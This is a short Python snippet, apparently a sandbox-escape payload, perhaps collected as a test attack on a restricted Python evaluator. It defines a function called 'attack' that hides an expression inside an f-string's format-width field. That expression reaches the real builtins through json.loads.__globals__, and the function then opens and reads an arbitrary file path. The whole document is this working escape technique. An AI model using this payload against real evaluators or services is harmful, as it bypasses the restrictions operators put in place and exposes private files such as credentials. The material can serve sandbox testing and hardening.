# The width of an f-string's field is an expression as well.
# after: read
# source: own
import json
taken = []
def attack(path, **_):
    f"{1:{taken.append(json.loads.__globals__) or 5}}"
    return {"text": taken[0]["__builtins__"]["open"](path).read()}
